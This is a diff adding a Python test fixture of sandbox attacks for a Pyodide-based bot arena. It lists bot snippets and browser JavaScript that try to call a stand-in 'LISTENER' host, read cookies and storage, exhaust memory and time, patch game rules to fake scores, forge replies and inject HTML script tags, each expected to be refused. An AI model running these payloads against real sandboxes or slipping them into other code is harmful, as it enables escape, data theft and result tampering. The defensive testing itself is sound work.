@@ -1,0 +1,170 @@
+"""Attacks on the sandbox: bots, and JavaScript for the case that a bot gets hold of all there is in its worker.
+
+Each attack that would get something says `GOT`, in what it prints or returns. `LISTENER` stands for the address of a server that
+nobody may reach, `SITE` for that of the site.
+"""
+
+PLAY = "\ndef choose(game):\n    return game.legal_actions()[0]\n"
+"""What a bot goes on with after an attack at its start."""
+
+TELL = """
+import gc, json
+from game.lab.cell import Cell
+cell = next(thing for thing in gc.get_objects() if type(thing) is Cell)
+tell = cell._tell
+fields = {"id": cell._id, "games": [], "playing": None, "print": "", "move": "", "end": None}
+"""
+"""Gets hold of the way on which a cell's replies leave, past everything that bounds them inside."""
+
+
+def tries(code: str) -> str:
+    """Return a bot that tries something at its start, tells how it went, and plays on."""
+    body = "".join(f"    {line}\n" for line in code.strip().splitlines())
+    return f"try:\n{body}    print('GOT')\nexcept BaseException as error:\n    print('refused', type(error).__name__){PLAY}"
+
+
+def chooses(code: str) -> str:
+    """Return a bot that does something at each move and then plays on."""
+    body = "".join(f"    {line}\n" for line in code.strip().splitlines())
+    return f"def choose(game):\n{body}    return game.legal_actions()[0]\n"
+
+
+def replies(code: str) -> str:
+    """Return a bot that sends replies of its own making."""
+    return TELL + code.strip() + PLAY
+
+
+DONE = ("done",)
+SLOW = ("bot-slow",)
+FAULT = ("bot-fault",)
+NONSENSE = ("bot-nonsense",)
+NOISE = ("bot-noise",)
+DEAD = ("bot-died", "bot-memory", "bot-fault")
+"""How a run may end whose interpreter breaks: it depends on the browser which limit is met first."""
+
+BOTS: dict[str, tuple[str, tuple[str, ...]]] = {
+    # The network
+    "pyfetch": (tries("from pyodide.http import open_url\nprint(open_url('LISTENER'))"), DONE),
+    "urllib": (tries("import urllib.request\nprint(urllib.request.urlopen('LISTENER').read())"), DONE),
+    "js-fetch": (tries("from js import fetch\nfetch('LISTENER')"), DONE),
+    "js-websocket": (tries("from js import WebSocket\nWebSocket.new('LISTENER')"), DONE),
+    "install-a-package": (tries("import micropip"), DONE),
+    "load-a-package": (tries("import pyodide_js\npyodide_js.loadPackage('LISTENER/a.whl')"), DONE),
+    "run-javascript": (tries("from pyodide.code import run_js\nprint(run_js('fetch(\"LISTENER\")'))"), DONE),
+    # The page and what it keeps
+    "document": (tries("from js import document\nprint(document.cookie)"), DONE),
+    "parent": (tries("from js import parent\nparent.document"), DONE),
+    "storage": (tries("from js import localStorage\nlocalStorage.setItem('tilelab.settings', 'x')"), DONE),
+    "indexed-db": (tries("from js import indexedDB\nindexedDB.open('secret')"), DONE),
+    # Time
+    "endless-loop": (chooses("while True:\n    pass"), SLOW),
+    "endless-loop-that-catches-all": (
+        chooses("while True:\n    try:\n        1 / 0\n    except BaseException:\n        pass"),
+        SLOW,
+    ),
+    "endless-start": ("while True:\n    pass\n", SLOW),
+    "sleep": (chooses("import time\ntime.sleep(1000)"), SLOW),
+    "long-arithmetic": (chooses("9 ** 9 ** 9"), SLOW),
+    "stopped-clock": ("import time\ntime.perf_counter = lambda: 0\n" + chooses("while True:\n    pass"), SLOW),
+    # Memory and the interpreter
+    "recursion": ("def choose(game):\n    return choose(game)\n", FAULT),
+    "deep-recursion": ("import sys\nsys.setrecursionlimit(10**9)\ndef choose(game):\n    return [choose(game)]\n", DEAD),
+    "memory-bomb": (chooses("hoard = [bytearray(1 << 26) for _ in range(100)]"), ("bot-memory",)),
+    "one-great-block": (chooses("bytearray(1 << 30)"), ("bot-memory",)),
+    "full-disk": (chooses("with open('x', 'wb') as file:\n    while True:\n        file.write(bytes(1 << 24))"), FAULT),
+    "great-file": (chooses("import os\nopen('x', 'w').close()\nos.truncate('x', 1 << 40)"), FAULT),
+    "file-with-a-hole": (chooses("with open('x', 'wb') as file:\n    file.seek(1 << 33)\n    file.write(b'x')"), FAULT),
+    "exit": (chooses("import sys\nsys.exit()"), FAULT),
+    "hard-exit": (chooses("import os\nos._exit(0)"), DEAD),
+    "abort": (chooses("import os\nos.abort()"), DEAD),
+    "crash": (chooses("import ctypes\nctypes.memset(0, 65, 1 << 28)"), (*DEAD, "bot-slow", "bot-noise", "bot-nonsense")),
+    "base-exception": (chooses("raise BaseException"), FAULT),
+    "interrupt": (chooses("raise KeyboardInterrupt"), FAULT),
+    "threads": (tries("import threading\nthreading.Thread(target=print).start()"), DONE),
+    "processes": (tries("import subprocess\nsubprocess.run(['ls'])"), DONE),
+    "javascript-by-its-constructor": (
+        TELL + "try:\n    tell.constructor('return 1')()\n    print('GOT')\nexcept Exception:\n    pass" + PLAY,
+        DONE,
+    ),
+    # What runs the bot
+    "patched-builtins": ("import builtins\nbuiltins.len = builtins.print = builtins.isinstance = None" + PLAY, DEAD),
+    "no-builtins": ("import builtins\nfor name in list(vars(builtins)):\n    delattr(builtins, name)" + PLAY, DEAD),
+    "no-modules": ("import sys\nsys.modules.clear()" + PLAY, ("done", "bot-fault")),
+    "patched-json": ("import json\njson.dumps = lambda value: 'x' * 9" + PLAY, NONSENSE),
+    "patched-records": (
+        "from game.lab.arena import Record\nRecord.as_json = lambda self: {'seed': 1, 'score': 10**9}" + PLAY,
+        NONSENSE,
+    ),
+    "patched-rules": (
+        "from game.twenty48 import faces\nfaces.play = lambda *_: 'won'\nfaces.outcome = lambda *_: 'solved'" + PLAY,
+        ("done", "bot-fault", "bot-nonsense"),
+    ),
+    "other-seeds": (
+        "from game.lab import cell\nplay = cell.Round\ncell.Round = lambda match, seed: play(match, seed + 5)" + PLAY,
+        NONSENSE,
+    ),
+    # What it returns
+    "nothing": ("def choose(game):\n    pass\n", ("bot-choice",)),
+    "a-great-number": ("def choose(game):\n    return 10 ** 5000\n", FAULT),
+    "a-great-text": ("def choose(game):\n    return '<img src=LISTENER>' * 10**6\n", ("bot-choice",)),
+    "odd-index": ("class Odd:\n    def __index__(self):\n        return self\ndef choose(game):\n    return Odd()\n", FAULT),
+    "odd-repr": (
+        "class Odd(str):\n    def __repr__(self):\n        return 5\n    lower = None\ndef choose(game):\n    return Odd('l')\n",
+        FAULT,
+    ),
+    "html-in-an-error": ("raise ValueError('<img src=LISTENER onerror=alert(1)><script src=LISTENER></script>')\n", FAULT),
+    "html-in-print": ("print('<img src=LISTENER><iframe src=LISTENER></iframe>')" + PLAY, DONE),
+    "surrogates": ("print(chr(0xD800), chr(0), chr(0x202E))" + PLAY, DONE),
+    "endless-print": (chooses("while True:\n    print('x')"), SLOW),
+    "great-print": ("print('x' * 10**8)" + PLAY, DONE),
+    # Replies of its own making
+    "reply-to-another-question": (replies("tell(json.dumps({**fields, 'id': 99}))"), NONSENSE),
+    "done-without-playing": (replies("tell(json.dumps({**fields, 'end': 'done'}))"), NONSENSE),
+    "a-move-nobody-asked-for": (replies("tell(json.dumps({**fields, 'move': 'l'}))"), NONSENSE),
+    "ready-again": (replies("tell('{\"ready\": true}')"), NONSENSE),
+    "no-json": (replies("tell('[' * 100000)"), NONSENSE),
+    "a-long-number": (replies("tell('{\"id\": ' + '9' * 500000 + '}')"), NONSENSE),
+    "a-flood": (replies("while True:\n    tell(json.dumps({**fields, 'print': 'x'}))"), NOISE),
+    "a-huge-reply": (replies("tell('x' * 10**8)"), NOISE),
+    "a-death-of-its-own-telling": (replies("tell('{\"dead\": \"<b>\"}')"), NONSENSE),
+    "no-text": (replies("from pyodide.ffi import to_js\ntell(to_js([1]))"), NONSENSE),
+    "a-late-reply": (
+        replies("import asyncio\nasyncio.get_event_loop().call_later(0.5, lambda: tell(json.dumps(fields)))"),
+        ("done", "bot-nonsense", "bot-fault"),
+    ),
+}
+
+JAVASCRIPT: dict[str, str] = {
+    "fetch": "(await fetch('LISTENER')).status",
+    "fetch-of-the-site": "(await fetch('SITE')).status",
+    "fetch-without-leave": "(await fetch('LISTENER', { mode: 'no-cors', keepalive: true })).type",
+    "xhr": """new Promise((yes, no) => {
+        const asked = new XMLHttpRequest(); asked.onload = yes; asked.onerror = no; asked.open('GET', 'LISTENER');
+        asked.send(); })""",
+    "websocket": """new Promise((yes, no) => {
+        const socket = new WebSocket('LISTENER'.replace('http', 'ws')); socket.onopen = yes; socket.onerror = no; })""",
+    "event-source": "new Promise((yes, no) => { const s = new EventSource('LISTENER'); s.onopen = yes; s.onerror = no; })",
+    "beacon": "navigator.sendBeacon('LISTENER', 'x') || Promise.reject('refused')",
+    "import": "import('LISTENER/a.js')",
+    "import-of-a-blob": "import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))",
+    "import-of-data": "import('data:text/javascript,1')",
+    "import-scripts": "importScripts('LISTENER/a.js')",
+    "worker": "new Worker(URL.createObjectURL(new Blob(['1'])))",
+    "shared-worker": "new SharedWorker('SITE')",
+    # In a timer, because what a driver evaluates by itself is under no policy.
+    "eval": "new Promise((yes, no) => setTimeout(() => { try { yes(eval('1')); } catch { no('refused'); } }))",
+    "function": "new Promise((yes, no) => setTimeout(() => { try { yes(Function('return 1')()); } catch { no('refused'); } }))",
+    "timer-with-text": """new Promise((yes, no) => {
+        setTimeout('globalThis.ran = 1'); setTimeout(() => globalThis.ran ? yes() : no('refused'), 50); })""",
+    "indexed-db": "new Promise((yes, no) => { const r = indexedDB.open('secret'); r.onsuccess = yes; r.onerror = no; })",
+    "caches": "(await caches.open('secret')).keys()",
+    "local-storage": "localStorage.length",
+    "files": "navigator.storage.getDirectory()",
+    "service-worker": "navigator.serviceWorker.register('SITE/sw.js')",
+    "document": "document.cookie",
+    "parent": "parent.location",
+    "locks-of-the-page": "navigator.locks.request('x', () => Promise.reject('refused'))",
+    "font": "new FontFace('x', 'url(LISTENER)').load()",
+    "transport": "new WebTransport('LISTENER'.replace('http', 'https')).ready",
+}
+"""Expressions; each must fail, when run in a worker of a cell as if a bot had broken out of Python."""
